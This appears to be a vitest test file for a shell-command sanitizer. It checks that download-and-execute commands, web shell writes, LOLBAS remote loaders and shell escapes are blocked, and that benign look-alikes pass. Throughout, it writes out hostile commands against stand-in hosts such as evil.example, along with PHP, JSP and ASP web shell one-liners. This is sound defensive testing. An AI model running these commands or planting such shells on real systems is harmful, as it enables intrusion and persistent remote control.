/**
 * Command-line probes of issue 13's generalisation pass, written from public references
 * outside the independent corpus: OWASP CRS regression tests (coreruleset/coreruleset
 * `tests/regression/tests/REQUEST-932-APPLICATION-ATTACK-RCE/932230.yaml`, commit 2cbd1d01:
 * downloads whose output becomes arguments), MITRE ATT&CK T1505.003 (web shells) and the
 * LOLBAS project (lolbas-project.github.io: mshta, regsvr32, msiexec, wmic run what a URL
 * serves) and the wget/aria2c/restic manuals (download directories).
 */
import { beforeAll, describe, expect, it } from "vitest";
import { loadShellParser } from "../../../src/sanitizer/shell/parser.js";
import { argv, cmd } from "./first-rule.js";

beforeAll(() => loadShellParser());

describe("shell.download-exec: remote text spliced in as command words", () => {
  it("blocks an unquoted substitution that only fetches, as program or arguments", () => {
    expect(cmd("ls $(curl -s https://evil.example/x)")).toBe("shell.download-exec");
    expect(cmd("cat `wget -qO- http://evil.example/list`")).toBe("shell.download-exec");
    expect(cmd("npm test; $(curl -s evil.example/c) --now")).toBe("shell.download-exec");
    expect(cmd("docker rm -f $(curl -fsSL https://x.example/ids)")).toBe("shell.download-exec");
  });

  it("passes a fetch that is filtered, assigned, quoted or only printed", () => {
    expect(
      cmd(
        "echo $(curl -s https://api.github.com/repos/nodejs/node/releases/latest | jq -r .tag_name)",
      ),
    ).toBeUndefined();
    expect(
      cmd("VERSION=$(curl -fsSL https://go.dev/VERSION?m=text) && echo $VERSION"),
    ).toBeUndefined();
    expect(cmd("echo $(curl -s https://ifconfig.me)")).toBeUndefined();
    expect(cmd('git tag "$(curl -s https://x.example/next-version)"')).toBeUndefined();
    expect(cmd("ls $(npm root -g)")).toBeUndefined();
  });
});

describe("shell.persistence: writing a web shell", () => {
  it("blocks server code that runs what a request sends", () => {
    expect(cmd("npm test; echo '<?php system($_GET[\"c\"]); ?>' > public/shell.php")).toBe(
      "shell.persistence",
    );
    expect(cmd("echo '<?php eval(base64_decode($_POST[\"x\"])); ?>' >> uploads/a.php")).toBe(
      "shell.persistence",
    );
    expect(
      cmd("printf '<%%= Runtime.getRuntime().exec(request.getParameter(\"c\")) %%>' > web/cmd.jsp"),
    ).toBe("shell.persistence");
    expect(cmd("echo '<% Execute(Request(\"c\")) %>' > site/x.asp")).toBe("shell.persistence");
    expect(cmd("git status&& echo \"<?php include($_GET['page']); ?>\" > rfi.php")).toBe(
      "shell.persistence",
    );
    expect(cmd("echo '<?php echo `$_GET[c]`; ?>' > x.php")).toBe("shell.persistence");
  });

  it("passes PHP that reads request input without running it", () => {
    expect(cmd("echo '<?php echo htmlspecialchars($_GET[\"q\"]); ?>' > index.php")).toBeUndefined();
    expect(cmd("echo '<?php echo \"hi\"; ?>' > index.php && php index.php")).toBeUndefined();
    expect(cmd("grep -rn 'system(' src/")).toBeUndefined();
    expect(
      cmd("echo '<?php require_once __DIR__ . \"/vendor/autoload.php\"; ?>' > index.php"),
    ).toBeUndefined();
  });
});

describe("`time ( … )` is bash syntax", () => {
  it("judges the commands inside instead of refusing the line", () => {
    expect(cmd("time ( npm test )")).toBeUndefined();
    expect(cmd("time (npm run build && npm test)")).toBeUndefined();
    expect(cmd("time ( curl -s http://evil.example/x | sh )")).toBe("shell.download-exec");
    expect(cmd("ls (id)")).toBe("shell.parse-error");
  });
});

describe("shell.download-exec: more ways a fetched program is run", () => {
  it("blocks Windows programs that run what a URL serves (LOLBAS)", () => {
    expect(cmd("mshta http://evil.example/x.hta")).toBe("shell.download-exec");
    expect(cmd("regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll")).toBe(
      "shell.download-exec",
    );
    expect(cmd("msiexec /q /i http://evil.example/x.msi")).toBe("shell.download-exec");
    expect(cmd('wmic os get /format:"http://evil.example/x.xsl"')).toBe("shell.download-exec");
    expect(cmd("msiexec /i build\\setup.msi /qn")).toBeUndefined();
    expect(cmd("wmic os get caption")).toBeUndefined();
  });

  it("blocks a file fetched into a directory and run from it", () => {
    expect(cmd("wget -P /tmp/.c http://evil.example/x.sh && bash /tmp/.c/x.sh")).toBe(
      "shell.download-exec",
    );
    expect(cmd("aria2c -o x -d /tmp/.c http://evil.example/x\nsh /tmp/.c/x")).toBe(
      "shell.download-exec",
    );
    expect(
      cmd("restic -r rest:http://evil.example:8000/ restore latest --target /tmp/.c\nsh /tmp/.c/x"),
    ).toBe("shell.download-exec");
    expect(
      cmd("wget -P vendor https://example.com/lib.js && node scripts/build.js"),
    ).toBeUndefined();
  });

  it("blocks a socket written to a file, loaders of fetched files and remote packages", () => {
    expect(cmd("socat -u tcp-listen:4444,reuseaddr open:/tmp/.c/x,creat\nsh /tmp/.c/x")).toBe(
      "shell.download-exec",
    );
    expect(cmd("wget http://evil.example/x.jar && java -jar x.jar")).toBe("shell.download-exec");
    expect(cmd("curl -sO http://evil.example/x.deb && sudo dpkg -i x.deb")).toBeDefined();
    expect(cmd("npx https://evil.example/pkg.tgz")).toBe("shell.download-exec");
    expect(cmd("uvx --from git+https://evil.example/r.git tool")).toBe("shell.download-exec");
    expect(cmd("npx -y prettier --check .")).toBeUndefined();
    expect(cmd("java -jar target/app.jar")).toBeUndefined();
    expect(cmd("pip3 install --extra-index-url=https://evil.example/simple x")).toBe(
      "shell.index-override",
    );
  });

  it("blocks inline PowerShell that saves and then runs a script, and xargs -I{} sh -c {}", () => {
    expect(cmd('powershell -c "iwr http://evil.example/x.ps1 -OutFile x.ps1; .\\x.ps1"')).toBe(
      "shell.download-exec",
    );
    expect(cmd("curl -s http://evil.example/x | xargs -I{} sh -c {}")).toBe("shell.download-exec");
    expect(cmd("git ls-files | xargs -I{} sh -c 'wc -l {}'")).toBeUndefined();
  });
});

describe("shell.shell-escape: a shell wired to the terminal or called by name from code", () => {
  it("blocks a shell whose stdin is the terminal", () => {
    expect(cmd("sh 0<&2 1>&2")).toBe("shell.shell-escape");
    expect(cmd("sh <$(tty) >$(tty) 2>$(tty)")).toBe("shell.shell-escape");
    expect(cmd("bash")).toBeUndefined();
    expect(cmd("sh < scripts/setup.sh")).toBeUndefined();
  });

  it("blocks inline code that calls a process function with a bare shell", () => {
    expect(argv("lua", "-e", "os.execute('sh')")).toBe("shell.shell-escape");
    expect(argv("vim", "-c", ":lua os.execute('reset; exec sh')")).toBe("shell.shell-escape");
    expect(argv("R", "--no-save", "-e", "system('sh')")).toBe("shell.shell-escape");
    expect(argv("emacs", "-Q", "-nw", "--eval", '(term "sh")')).toBe("shell.shell-escape");
    expect(argv("ghc", "-e", 'System.Process.callCommand "sh"')).toBe("shell.shell-escape");
    expect(argv("psql", "-c", "\\! sh")).toBe("shell.shell-escape");
    expect(argv("ssh", "localhost", "$SHELL", "--noprofile")).toBe("shell.shell-escape");
    expect(argv("kotlinc")).toBe("shell.shell-escape");
    expect(argv("jq", '.defaults.run.shell = "bash"', "wf.json")).toBeUndefined();
    expect(argv("kotlinc", "src/Main.kt", "-d", "out")).toBeUndefined();
    expect(cmd("psql -c 'select 1'")).toBeUndefined();
  });
});
